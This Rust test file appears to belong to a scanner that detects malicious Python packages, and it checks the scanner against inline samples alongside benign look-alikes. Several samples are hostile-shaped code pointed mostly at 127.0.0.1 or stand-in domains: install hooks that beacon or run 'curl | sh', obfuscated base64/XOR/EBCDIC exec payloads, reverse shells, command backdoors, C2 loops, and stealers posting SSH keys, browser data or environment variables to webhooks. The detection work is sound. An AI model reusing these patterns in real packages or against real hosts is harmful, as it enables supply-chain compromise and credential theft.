//! End-to-end tests of the Python analyser: harmless canaries (they would only talk
//! to 127.0.0.1 or write a marker file) and benign look-alikes, written inline.

mod deep;
mod evasions;

use super::*;
use crate::alerts::Severity;

fn run(path: &str, role: FileRole, src: &str) -> Vec<Finding> {
    let f = SourceFile { path, text: src, role };
    analyze_package(&[f], &PackageContext::default())
}

fn ids(f: &[Finding]) -> Vec<&'static str> {
    let mut v: Vec<&'static str> = f.iter().map(|x| x.alert.id()).collect();
    v.sort();
    v.dedup();
    v
}

fn critical(f: &[Finding]) -> bool {
    f.iter().any(|x| x.severity() == Severity::Critical)
}

#[test]
fn install_network_in_cmdclass() {
    let src = r#"
from setuptools import setup
from setuptools.command.install import install
import urllib.request

class Beacon(install):
    def run(self):
        urllib.request.urlopen("http://127.0.0.1:9/ping", timeout=1)
        install.run(self)

setup(name="canary", cmdclass={"install": Beacon})
"#;
    let f = run("canary-1.0/setup.py", FileRole::SetupScript, src);
    let n = f.iter().find(|x| x.alert == AlertId::InstallNetwork).expect("install-network");
    assert_eq!(n.message, "urllib.request.urlopen() talks to a raw IP address in cmdclass `install.run` (runs during pip install)");
    assert_eq!(n.line, Some(8));
    assert!(ids(&f).contains(&"install-hook"));
}

#[test]
fn benign_setup_is_quiet() {
    let src = r#"
import os, re
from setuptools import setup, find_packages
here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "pkg", "__init__.py")) as f:
    version = re.search(r'__version__ = "(.*)"', f.read()).group(1)
exec(open("pkg/version.py").read())
setup(name="pkg", version=version, packages=find_packages())
"#;
    let f = run("pkg-1.0/setup.py", FileRole::SetupScript, src);
    assert!(!critical(&f), "{f:#?}");
}

#[test]
fn build_subprocess_is_not_critical() {
    let src = r#"
import subprocess
from setuptools import setup
subprocess.check_call(["cmake", "--build", "."])
setup(name="x")
"#;
    let f = run("x/setup.py", FileRole::SetupScript, src);
    assert_eq!(ids(&f), vec!["install-subprocess"]);
}

#[test]
fn install_shell_curl_pipe() {
    let src = "import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n";
    let f = run("x/setup.py", FileRole::SetupScript, src);
    assert!(ids(&f).contains(&"install-shell"));
    assert!(ids(&f).contains(&"download-exec"));
}

#[test]
fn aliases_and_getattr_resolve() {
    let src = r#"
from os import system as s
import subprocess as sp
getattr(__import__('os'), 'popen')('touch /tmp/marker &')
"#;
    let f = run("x/setup.py", FileRole::SetupScript, src);
    let m = f.iter().find(|x| x.alert == AlertId::InstallShell).expect("install-shell");
    assert!(m.message.starts_with("os.popen()"), "{}", m.message);
}

#[test]
fn decode_exec_and_rescan() {
    // base64 of: import os; os.system("curl http://127.0.0.1:9/a | sh")
    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEyNy4wLjAuMTo5L2EgfCBzaCIp'))\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(ids(&f).contains(&"decode-exec"), "{f:#?}");
    let inner = f.iter().find(|x| x.message.starts_with("in decoded payload (base64)")).expect("rescan");
    assert_eq!(inner.line, Some(2));
}

#[test]
fn chr_join_builds_hidden_import() {
    let src = "m = __import__(''.join([chr(111), chr(115)]))\nm.system('id')\n";
    let f = run("pkg/mod.py", FileRole::Module, src);
    // run by importing the package: the hidden import is obfuscation at import time
    assert!(ids(&f).contains(&"obfuscated-install-code"), "{f:#?}");
    assert!(ids(&f).contains(&"import-shell"), "{f:#?}");
    let f = run("pkg/mod.py", FileRole::Module, &format!("def f():\n    {}", src.replace('\n', "\n    ")));
    assert!(ids(&f).contains(&"hidden-import"), "{f:#?}");
}

#[test]
fn builtins_getattr_in_setup_is_critical() {
    let src = "getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))('print(1)')\n";
    let f = run("x/setup.py", FileRole::SetupScript, src);
    assert!(ids(&f).contains(&"obfuscated-install-code"), "{f:#?}");
}

#[test]
fn exfiltration_of_host_data() {
    let src = r#"
import socket, getpass, requests
from setuptools.command.install import install
class C(install):
    def run(self):
        data = {"h": socket.gethostname(), "u": getpass.getuser()}
        requests.get("http://127.0.0.1:9/", params=data)
"#;
    let f = run("x/setup.py", FileRole::SetupScript, src);
    assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
}

#[test]
fn download_write_run() {
    let src = r#"
import os, requests
def download(url, path):
    r = requests.get(url)
    with open(path, "wb") as fh:
        fh.write(r.content)
def launch(path):
    os.startfile(path)
download("http://127.0.0.1:9/x.exe", "marker.exe")
launch("marker.exe")
"#;
    let f = run("pkg/main.py", FileRole::Module, src);
    assert!(ids(&f).contains(&"download-exec"), "{f:#?}");
}

#[test]
fn runtime_library_network_is_medium_only() {
    let src = "import requests\ndef fetch(url):\n    return requests.get(url, timeout=5).json()\n";
    let f = run("pkg/client.py", FileRole::Module, src);
    assert_eq!(ids(&f), vec!["network-access"]);
}

#[test]
fn botocore_credentials_path_is_low() {
    let src = "import os\nDEFAULT = os.path.expanduser('~/.aws/credentials')\ndef load(p=DEFAULT):\n    with open(p) as f:\n        return f.read()\n";
    let f = run("botocore/configprovider.py", FileRole::Module, src);
    assert_eq!(ids(&f), vec!["sensitive-path-reference"]);
}

#[test]
fn reverse_shell_shape() {
    let src = r#"
import socket, os, pty
def go():
    s = socket.socket()
    s.connect(("127.0.0.1", 9))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")
"#;
    let f = run("pkg/x.py", FileRole::Module, src);
    assert!(ids(&f).contains(&"reverse-shell"), "{f:#?}");
}

#[test]
fn reverse_shell_through_a_socket_kept_on_self() {
    // class-based agents keep their connection on `self`: the socket made in __init__
    // is what `run` reads commands from (the canary talks to 127.0.0.1 only)
    let agent = r#"
import socket, subprocess

class Agent:
    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)

    def run(self):
        self.sock.connect(("127.0.0.1", 9))
        while True:
            cmd = self.sock.recv(4096).decode()
            self.sock.send(subprocess.check_output(cmd, shell=True))
"#;
    let f = run("pkg/agent.py", FileRole::Module, agent);
    assert!(ids(&f).contains(&"reverse-shell"), "{f:#?}");
    // a client that keeps a socket on self and runs a fixed command: no remote control
    let client = r#"
import socket, subprocess

class Probe:
    def __init__(self):
        self.sock = socket.socket()

    def check(self, host):
        self.sock.connect((host, 22))
        banner = self.sock.recv(64)
        return banner, subprocess.check_output(["uname", "-a"])
"#;
    let f = run("pkg/probe.py", FileRole::Module, client);
    assert!(!critical(&f), "{f:#?}");
}

#[test]
fn pth_files() {
    let ok = run("distutils-precedence.pth", FileRole::PthFile, "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n");
    assert_eq!(ids(&ok), vec!["pth-code"]);
    let bad = run("x.pth", FileRole::PthFile, "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n");
    assert_eq!(ids(&bad), vec!["pth-payload"]);
}

#[test]
fn env_harvest_and_exfil() {
    let src = "import os, json, urllib.request\ndef f():\n    body = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('http://127.0.0.1:9', data=body)\n";
    let f = run("pkg/x.py", FileRole::Module, src);
    assert!(ids(&f).contains(&"env-harvest"), "{f:#?}");
    assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
    let benign = "import os, subprocess\ndef f():\n    subprocess.run(['ls'], env=os.environ.copy())\n";
    let f = run("pkg/y.py", FileRole::Module, benign);
    assert!(!ids(&f).contains(&"env-harvest"));
}

#[test]
fn cap_limits_findings() {
    let src: String = (0..10).map(|i| format!("import os\nos.system('make t{i}')\n")).collect();
    let f = run("x/setup.py", FileRole::SetupScript, &src);
    let n: Vec<_> = f.iter().filter(|x| x.alert == AlertId::InstallSubprocess).collect();
    assert_eq!(n.len(), 3);
    assert!(n[2].message.ends_with("(and 7 more in this file)"), "{}", n[2].message);
}

#[test]
fn python2_setup_still_scanned() {
    let src = "import os\nprint 'installing'\nos.system('wget http://127.0.0.1:9/a -O /tmp/a && chmod +x /tmp/a && /tmp/a')\n";
    let f = run("x/setup.py", FileRole::SetupScript, src);
    assert!(critical(&f), "{f:#?}");
}

#[test]
fn snapshot_install_network() {
    let src = "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/')\n";
    let f = run("canary-1.0/setup.py", FileRole::SetupScript, src);
    let rendered: Vec<String> = f
        .iter()
        .filter(|x| x.alert == AlertId::InstallNetwork)
        .map(|x| format!("{} {}:{} [{}] {} | {}", x.alert, x.file, x.line.unwrap_or(0), x.context.map(|c| c.as_str()).unwrap_or("-"), x.message, x.evidence))
        .collect();
    insta::assert_snapshot!(rendered.join("\n"), @"install-network canary-1.0/setup.py:2 [install] urllib.request.urlopen() talks to a raw IP address at module level (runs during pip install) | urllib.request.urlopen('http://127.0.0.1:9/')");
}

#[test]
fn xor_decoded_exec_in_cmdclass() {
    let src = r#"
from setuptools.command.install import install
class C(install):
    def run(self):
        data = "\x05\x0b\x14"
        key = "key"
        out = ""
        for i in range(len(data)):
            out += chr(ord(data[i]) ^ ord(key[i % len(key)]))
        eval(compile(out, '<string>', 'exec'))
"#;
    let f = run("x/setup.py", FileRole::SetupScript, src);
    assert!(ids(&f).contains(&"decode-exec"), "{f:#?}");
}

#[test]
fn eval_of_eval_is_hidden_exec() {
    // BlankOBF shape: eval obtained by evaluating its own name, then run on computed text
    let src = "_e = eval(\"\\x65\\x76\\x61\\x6c\")\ndef f(x):\n    return x[::-1]\n_e(f(')1(tnirp'))\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(ids(&f).contains(&"hidden-exec"), "{f:#?}");
    // plain reflection is not an indirection
    let benign = "import builtins\ndef lookup(name):\n    return getattr(builtins, name)\n";
    assert!(run("pkg/util.py", FileRole::Module, benign).is_empty());
}

#[test]
fn build_scripts_outside_packages_run_by_hand() {
    let script = "import urllib.request, subprocess\nr = urllib.request.urlopen('https://example.invalid/lib.zip')\nopen('lib.zip', 'wb').write(r.read())\nsubprocess.check_call(['meson', 'build'])\n";
    let init = SourceFile { path: "p-1.0/pkg/__init__.py", text: "", role: FileRole::PackageInit };
    let tool = SourceFile { path: "p-1.0/tools/fetch_deps.py", text: script, role: FileRole::Module };
    let f = analyze_package(&[init, tool], &PackageContext::default());
    assert!(!critical(&f), "{f:#?}");
    assert!(ids(&f).contains(&"network-access"));
}

#[test]
fn stealer_posting_to_webhook_on_import() {
    let src = r#"
import os, requests
HOOK = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJ"
local = os.getenv("LOCALAPPDATA")
paths = [local + "\\Google\\Chrome\\User Data\\Default", local + "\\discord\\Local Storage\\leveldb"]
requests.post(HOOK, json={"content": "hi"})
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
}

fn has(f: &[Finding], alert: AlertId) -> bool {
    f.iter().any(|x| x.alert == alert)
}

#[test]
fn main_block_is_not_reached_from_import() {
    // lxml's buildlibxml.py shape: helpers that fetch and build, run only from `__main__`
    let src = r#"
import os, subprocess
from ftplib import FTP
from urllib.request import urlretrieve, urlopen, Request
def read_url(url, token=None):
    return urlopen(Request(url, headers={"authorization": token})).read()
def latest():
    return read_url("https://127.0.0.1/releases", token=os.environ.get("GITHUB_API_TOKEN"))
def list_ftp(url):
    ftp = FTP(url)
    return ftp.nlst()
def build(dest):
    urlretrieve(latest(), dest + "/lib.tgz")
    subprocess.call(["./configure"], cwd=dest)
if __name__ == "__main__":
    list_ftp("127.0.0.1")
    build("/tmp/x")
"#;
    let f = run("lx-1.0/buildlibxml.py", FileRole::Module, src);
    assert!(!critical(&f), "{f:#?}");
    // the same dropper at module level runs on import: still critical
    let dropper = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve('http://127.0.0.1/x.sh', '/tmp/x.sh')\nsubprocess.call(['sh', '/tmp/x.sh'])\n";
    assert!(has(&run("pkg/__init__.py", FileRole::PackageInit, dropper), AlertId::DownloadExec));
}

#[test]
fn loose_modules_outside_script_dirs_are_not_dormant() {
    // a stealer: a credential file posted to a fixed address, wherever the code runs
    let beacon = "import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://127.0.0.1:9/', data=key)\n";
    let init = SourceFile { path: "p-1.0/pkg/__init__.py", text: "", role: FileRole::PackageInit };
    let odd = SourceFile { path: "p-1.0/pkg/__init__py.py/pkg/beacon.py", text: beacon, role: FileRole::Module };
    let f = analyze_package(&[init, odd], &PackageContext::default());
    assert!(has(&f, AlertId::Exfiltration), "{f:#?}");
    // hand-run maintenance scripts stay dormant
    let script = SourceFile { path: "p-1.0/scripts/internal/report.py", text: beacon, role: FileRole::Module };
    let f = analyze_package(&[init, script], &PackageContext::default());
    assert!(!critical(&f), "{f:#?}");
    assert!(has(&f, AlertId::DormantMaliciousCode));
}

#[test]
fn chat_bot_exfiltration_at_runtime() {
    let src = r#"
import requests
BOT = "123456789:AAbbccddeeffgghhiijjkkllmmnnooppqqr"
def send(path):
    url = f"https://api.telegram.org/bot{BOT}/sendDocument"
    with open(path, "rb") as f:
        requests.post(url, files={"document": f}, data={"chat_id": "1"})
"#;
    let f = run("pkg/monitor.py", FileRole::Module, src);
    assert!(has(&f, AlertId::Exfiltration), "{f:#?}");
    // a fixed message to a hook is reported as webhook-url only
    let benign = r#"
import requests
HOOK = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJ"
def notify():
    requests.post(HOOK, json={"content": "build finished"})
"#;
    let f = run("pkg/notify.py", FileRole::Module, benign);
    assert!(!critical(&f), "{f:#?}");
    assert!(has(&f, AlertId::WebhookUrl));
}

#[test]
fn import_time_beacons() {
    let post = "import requests\nimport sys\nrequests.post('http://canary.invalid/p', data={'argv': sys.argv[0]})\n";
    assert!(has(&run("pkg/__init__.py", FileRole::PackageInit, post), AlertId::Exfiltration));
    let dns = "import socket\ntry:\n    socket.gethostbyname('pkg_name.beacon.example.invalid')\nexcept OSError:\n    pass\n";
    assert!(has(&run("pkg/__init__.py", FileRole::PackageInit, dns), AlertId::Exfiltration));
    // look-alikes: a fixed version check, a connectivity probe, a computed download URL
    let benign = r#"
import socket, urllib.request
__version__ = "1.0"
try:
    socket.gethostbyname("pypi.org")
except OSError:
    pass
def fetch(fname):
    return urllib.request.urlopen(fname).read()
urllib.request.urlopen("https://pypi.org/pypi/pkg/json", timeout=1)
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, benign);
    assert!(!critical(&f), "{f:#?}");
}

#[test]
fn request_object_carrying_the_environment() {
    let src = r#"
import os, urllib.request, urllib.parse
from setuptools import setup
from setuptools.command.install import install
def collect():
    data = dict(os.environ)
    body = urllib.parse.urlencode(data).encode()
    return urllib.request.Request('http://127.0.0.1:9/', data=body)
class I(install):
    def run(self):
        install.run(self)
        collect()
setup(name='canary', cmdclass={'install': I})
"#;
    assert!(has(&run("canary-1.0/setup.py", FileRole::SetupScript, src), AlertId::Exfiltration));
    let benign = "import urllib.request\ndef get(url, token):\n    return urllib.request.urlopen(urllib.request.Request(url, headers={'Authorization': token}))\n";
    assert!(!critical(&run("pkg/http.py", FileRole::Module, benign)));
}

#[test]
fn ebcdic_and_codec_decodes_are_folded() {
    // getattr(builtins, b'…'.decode('cp1026')) is eval; the payload is rescanned
    let src = "import builtins\ncc = getattr(builtins, b'\\x85\\xa5\\x81\\x93'.decode('cp1026'))\ncc(b'\\x85\\xa7\\x85\\x83M\\xfc\\x89\\x94\\x97\\x96\\x99\\xa3@\\x96\\xa2^\\x96\\xa2K\\xa2\\xa8\\xa2\\xa3\\x85\\x94M}\\xa3\\x96\\xa4\\x83\\x88@a\\xa3\\x94\\x97a\\x94\\x81\\x99\\x92\\x85\\x99}]\\xfc]'.decode('cp1026'))\n";
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(critical(&f), "{f:#?}");
    assert!(f.iter().any(|x| x.evidence.contains("touch /tmp/marker") || x.message.contains("touch /tmp/marker")), "{f:#?}");
    // Python 2 style str.decode('base64')
    let py2 = "exec('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInRvdWNoIC90bXAvbWFya2VyIik='.decode('base64'))\n";
    assert!(has(&run("pkg/__init__.py", FileRole::PackageInit, py2), AlertId::DecodeExec));
    // an EBCDIC label table in a codec library is not code
    let benign = "LABEL = b'\\xc8\\x85\\x93\\x93\\x96'.decode('cp037')\nprint(LABEL)\n";
    assert!(!critical(&run("pkg/labels.py", FileRole::Module, benign)));
}

#[test]
fn lambda_and_def_decoders_are_applied() {
    // base64 of b"import os; os.system('touch /tmp/marker')", reversed
    let enc: String = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RvdWNoIC90bXAvbWFya2VyJyk=".chars().rev().collect();
    let src = format!("_ = lambda __ : __import__('base64').b64decode(__[::-1])\nexec((_)(b'{enc}'))\n");
    let f = run("pkg/lib.py", FileRole::Module, &src);
    assert!(has(&f, AlertId::DecodeExec), "{f:#?}");
    assert!(f.iter().any(|x| x.message.contains("touch /tmp/marker") || x.evidence.contains("touch /tmp/marker")), "{f:#?}");
    let def = format!("import base64\ndef d(s):\n    '''decode'''\n    return base64.b64decode(s[::-1])\nexec(d('{enc}'))\n");
    assert!(has(&run("pkg/lib.py", FileRole::Module, &def), AlertId::DecodeExec));
    // a helper that only formats text is not a decoder
    let benign = "fmt = lambda s: s.strip().lower()\nprint(fmt(' Hello '))\n";
    assert!(run("pkg/lib.py", FileRole::Module, benign).is_empty());
}

#[test]
fn web_request_input_run_as_command_is_a_backdoor() {
    let src = r#"
import subprocess
from flask import Flask, request
app = Flask(__name__)
@app.route('/x')
def x():
    return subprocess.Popen(request.args.get('c'), shell=True, stdout=subprocess.PIPE).stdout.read()
app.run(host='127.0.0.1', port=9)
"#;
    assert!(has(&run("pkg/tools.py", FileRole::Module, src), AlertId::ReverseShell));
    let django = "import subprocess\ndef view(request):\n    cmd = request.GET['c']\n    return subprocess.check_output(cmd, shell=True)\n";
    assert!(has(&run("pkg/views.py", FileRole::Module, django), AlertId::ReverseShell));
    // a handler that runs a fixed program with a validated option
    let benign = r#"
import subprocess
from flask import request
def status():
    fmt = "json" if request.args.get("fmt") == "json" else "text"
    return subprocess.run(["git", "status"], capture_output=True).stdout
"#;
    assert!(!critical(&run("pkg/views.py", FileRole::Module, benign)));
}

#[test]
fn command_and_control_through_a_helper() {
    let src = r#"
import subprocess, requests, time
def debug():
    while True:
        resp = requests.get("http://127.0.0.1:9/").text
        out = runcommand(resp)
        requests.post("http://127.0.0.1:9/out", data={"o": out})
        time.sleep(1)
def runcommand(value):
    return subprocess.run(value, shell=True, capture_output=True).stdout
"#;
    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
    assert!(has(&f, AlertId::DownloadExec), "{f:#?}");
    let loop_ = "import subprocess, requests\nfor cmd in requests.get('http://127.0.0.1:9/c').json()['cmds']:\n    subprocess.run(cmd, shell=True)\n";
    assert!(has(&run("pkg/agent.py", FileRole::Module, loop_), AlertId::DownloadExec));
    // a fetched version used inside a fixed command is not a C2 loop
    let benign = r#"
import subprocess, requests
def run(cmd):
    return subprocess.run(cmd, shell=True)
def upgrade():
    v = requests.get("https://pypi.org/pypi/pkg/json").json()["info"]["version"]
    run(f"pip install pkg=={v}")
    run("echo done")
"#;
    assert!(!critical(&run("pkg/upgrade.py", FileRole::Module, benign)), "{:#?}", run("pkg/upgrade.py", FileRole::Module, benign));
}

#[test]
fn shell_download_then_run_on_import() {
    let src = r#"
import os, requests
def get_url():
    return requests.get("http://127.0.0.1:9/raw").text
def run_file(path):
    os.system(f"python {path}")
def main():
    url = get_url()
    os.system(f"curl -o /tmp/x.zip {url}")
    os.system("tar -xf /tmp/x.zip -C /tmp")
    run_file("/tmp/code.py")
main()
"#;
    assert!(has(&run("pkg/setup.py", FileRole::Module, src), AlertId::DownloadExec));
    // a runtime helper that downloads with curl and unpacks (no hard-coded payload URL)
    let benign = "import os\ndef fetch(url):\n    os.system(f'curl -o /tmp/data.tgz {url}')\n    os.system('tar -xf /tmp/data.tgz')\n";
    assert!(!critical(&run("pkg/data.py", FileRole::Module, benign)));
}

#[test]
fn git_clone_then_run_on_import() {
    let src = "import git, subprocess, os\ngit.Repo.clone_from('http://127.0.0.1:9/r.git', '/tmp/r')\nos.chdir('/tmp/r')\nsubprocess.run(['python', 'marker.py'])\n";
    assert!(has(&run("pkg/utils.py", FileRole::Module, src), AlertId::DownloadExec));
    let benign = "import git, subprocess\ndef clone(url, dest):\n    git.Repo.clone_from(url, dest)\n    subprocess.run(['make'], cwd=dest)\n";
    assert!(!critical(&run("pkg/vcs.py", FileRole::Module, benign)));
}

#[test]
fn own_host_lookups_are_not_exfiltration() {
    // jupyter_client's localinterfaces: the machine resolving its own name
    let src = "import socket\ndef load():\n    hostname = socket.gethostname()\n    ips = socket.gethostbyname_ex(hostname)[2]\n    ips2 = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n    return ips, ips2\n";
    let f = run("jupyter_client/localinterfaces.py", FileRole::Module, src);
    assert!(!critical(&f), "{f:#?}");
    // the same lookup under a literal domain carries data out (DNS exfiltration)
    let beacon = "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x7.example.com')\n";
    assert!(has(&run("evil-1.0/setup.py", FileRole::SetupScript, beacon), AlertId::Exfiltration));
}

#[test]
fn api_tokens_sent_to_their_service_are_capabilities() {
    let client = "import os, requests\ndef call(q):\n    tok = os.environ['OPENAI_API_KEY']\n    return requests.post('https://api.example.com/v1/q', headers={'Authorization': 'Bearer ' + tok}, json={'q': q})\n";
    assert!(!critical(&run("client/api.py", FileRole::Module, client)));
    let oauth = "import os, requests\ndef token():\n    return requests.post('https://auth.example.com/token', data={'secret': os.getenv('CLIENT_SECRET')})\n";
    assert!(!critical(&run("client/auth.py", FileRole::Module, oauth)));
    // the same token posted from setup.py is theft
    let setup = "import os, requests\nrequests.post('https://collect.example.com/t', data={'t': os.getenv('GITHUB_TOKEN')})\n";
    assert!(has(&run("evil-1.0/setup.py", FileRole::SetupScript, setup), AlertId::Exfiltration));
}

#[test]
fn runtime_stealer_posting_key_files_to_a_fixed_endpoint_is_caught() {
    let src = "import os, requests\ndef backup_wallet():\n    data = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://127.0.0.1:9/k', data={'k': data})\n";
    assert!(has(&run("tool/wallet.py", FileRole::Module, src), AlertId::Exfiltration));
    // host facts sent at runtime to a URL the caller passes in: telemetry, not theft
    let telemetry = "import platform, requests\ndef report(url):\n    requests.post(url, json={'host': platform.node()})\n";
    assert!(!critical(&run("tool/telemetry.py", FileRole::Module, telemetry)));
}

#[test]
fn a_wheel_command_class_does_not_run_at_install() {
    // numpy/distutils/command/build_ext.py in a wheel: runs when another build calls it
    let src = "import subprocess\nfrom distutils.command.build_ext import build_ext as old\nclass build_ext(old):\n    def run(self):\n        subprocess.check_call(['gcc', '-v'])\n";
    let f = run("numpy/distutils/command/build_ext.py", FileRole::Module, src);
    assert!(f.iter().all(|x| x.context != Some(ExecContext::Install)), "{f:#?}");
    assert!(!has(&f, AlertId::InstallHook));
    // the same class in setup.py is an install hook
    let f = run("p-1.0/setup.py", FileRole::SetupScript, src);
    assert!(has(&f, AlertId::InstallHook), "{f:#?}");
}

#[test]
fn ordinary_patterns_are_not_warnings() {
    // exception classes looked up by name (ptyprocess)
    let src = "import builtins\ndef spawn(errclass):\n    exctype = getattr(builtins, errclass.decode('ascii'), Exception)\n    raise exctype('x')\n";
    assert!(!has(&run("ptyprocess/ptyprocess.py", FileRole::Module, src), AlertId::BuiltinsIndirection));
    // the same lookup without an exception default is still the obfuscation shape
    let evil = "import builtins\ndef f(n):\n    return getattr(builtins, n.decode('ascii'))\n";
    assert!(has(&run("pkg/x.py", FileRole::Module, evil), AlertId::BuiltinsIndirection));
    // a helper that opens the URL its caller passes, called at import with a file name
    let rc = "import urllib.request\ndef _open(fname):\n    if '://' in fname:\n        return urllib.request.urlopen(fname)\n    return open(fname)\n_open('matplotlibrc')\n";
    assert!(!has(&run("mpl/__init__.py", FileRole::PackageInit, rc), AlertId::ImportNetwork));
    let beacon = "import urllib.request\ndef ping():\n    urllib.request.urlopen('https://example.com/p')\nping()\n";
    assert!(has(&run("mpl/__init__.py", FileRole::PackageInit, beacon), AlertId::ImportNetwork));
}

#[test]
fn install_time_downloads_are_not_droppers() {
    // a build fetching a data file into a temp path: install-download (high), not a block
    let src = "import urllib.request, tempfile\ntmp = tempfile.mktemp()\nurllib.request.urlretrieve('https://example.com/data/tlds.txt', tmp)\n";
    let f = run("p-1.0/setup.py", FileRole::SetupScript, src);
    assert!(has(&f, AlertId::InstallDownload) && !critical(&f), "{f:#?}");
    // sending data, or fetching from a paste site, is install-network (critical)
    let post = "import urllib.request, getpass\nurllib.request.urlopen('https://example.com/c', data=getpass.getuser().encode())\n";
    assert!(has(&run("p-1.0/setup.py", FileRole::SetupScript, post), AlertId::InstallNetwork));
    let paste = "import urllib.request\nurllib.request.urlretrieve('https://pastebin.com/raw/abc', 'x.txt')\n";
    assert!(has(&run("p-1.0/setup.py", FileRole::SetupScript, paste), AlertId::InstallNetwork));
}

#[test]
fn namespace_package_pth_lines_are_plumbing() {
    let nspkg = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
    let f = pth::check(&SourceFile { path: "google_x-1.0-py3.12-nspkg.pth", text: nspkg, role: FileRole::PthFile });
    assert!(f.is_empty(), "{f:#?}");
    // importing a module of the package at start-up is still worth a look
    let f = pth::check(&SourceFile { path: "x.pth", text: "import _x_startup\n", role: FileRole::PthFile });
    assert!(has(&f, AlertId::PthCode));
}

#[test]
fn auxiliary_module_is_package_code_only_when_one_import_line_names_it_with_its_parent() {
    let mut index = ImportIndex::default();
    for line in import_lines("import os\nfrom tests import payload\nfrom helpers import x\n    import utils\nfrom pkg import tools\n", std::borrow::Cow::Borrowed) {
        index.add_line(line);
    }
    // stem and parent on one line
    assert!(imported_by_package_code("pkg-1.0/tests/payload.py", &index));
    assert!(imported_by_package_code("pkg-1.0/tests/payload/__init__.py", &index));
    // stem named, but never together with its parent
    assert!(!imported_by_package_code("pkg-1.0/examples/utils.py", &index));
    assert!(!imported_by_package_code("pkg-1.0/tests/helpers.py", &index));
    // a top-level file has no parent: naming the stem is enough
    assert!(imported_by_package_code("tools.py", &index));
    assert!(!imported_by_package_code("absent.py", &index));
    // too short, tests and conftest never count
    assert!(!imported_by_package_code("pkg-1.0/tests/os.py", &index));
    assert!(!imported_by_package_code("pkg-1.0/tests/test_payload.py", &index));
    assert!(!imported_by_package_code("pkg-1.0/tests/conftest.py", &index));

    // indexes built apart (one per worker) and merged keep their lines apart
    let part = |text: &'static str| {
        let mut index = ImportIndex::default();
        for line in import_lines(text, std::borrow::Cow::Borrowed) {
            index.add_line(line);
        }
        index
    };
    let merged = part("from tests import helpers\n").merge(part("import payload\nfrom tests import runner\n"));
    assert!(imported_by_package_code("pkg-1.0/tests/helpers.py", &merged));
    assert!(imported_by_package_code("pkg-1.0/tests/runner.py", &merged));
    assert!(!imported_by_package_code("pkg-1.0/tests/payload.py", &merged), "`tests` and `payload` are on different lines");
}

#[test]
fn constant_stored_on_self_is_seen_by_other_methods() {
    // a relay class: the bot token is set in __init__ and used by another method to post
    // what the caller hands it (the canary's token is malformed for the real service)
    let relay = r#"
import requests

class Relay:
    def __init__(self):
        self.token = '1234567890:AAFHDe9wf744KwRkMiagofQt3grMG9TXkh4'
        self.chat_id = '1111'

    def send(self, message):
        url = f"https://api.telegram.org/bot{self.token}/sendMessage"
        requests.post(url, params={'chat_id': self.chat_id, 'text': message})
"#;
    let f = run("relay/__init__.py", FileRole::PackageInit, relay);
    assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
    // the same from a function nested in the method (a callback it hands out)
    let nested = relay.replace("    def send(self, message):\n", "    def send(self, message):\n        def later():\n            pass\n").replace(
        "        requests.post(url, params={'chat_id': self.chat_id, 'text': message})",
        "        def post():\n            requests.post(f\"https://api.telegram.org/bot{self.token}/sendMessage\", params={'text': message})\n        post()",
    );
    let f = run("relay/__init__.py", FileRole::PackageInit, &nested);
    assert!(ids(&f).contains(&"exfiltration"), "{nested}\n{f:#?}");
    // an API client: a base URL constant on self, the user's token in a header, the
    // caller's data in the body — a capability, never a block
    let client = r#"
import os, requests

class Client:
    def __init__(self, token=None):
        self.base_url = "https://api.example.com/v1"
        self.token = token or os.environ.get("EXAMPLE_API_TOKEN")

    def create(self, payload):
        return requests.post(self.base_url + "/items", json=payload, headers={"Authorization": "Bearer " + self.token})
"#;
    let f = run("client/__init__.py", FileRole::PackageInit, client);
    assert!(!critical(&f), "{f:#?}");
    // the value another method computes per call is not carried over
    let computed = r#"
import requests

class Relay:
    def configure(self, host):
        self.url = "https://" + host + "/hook"

    def send(self, message):
        requests.post(self.url, data=message)
"#;
    let f = run("relay2/__init__.py", FileRole::PackageInit, computed);
    assert!(!critical(&f), "{f:#?}");
}
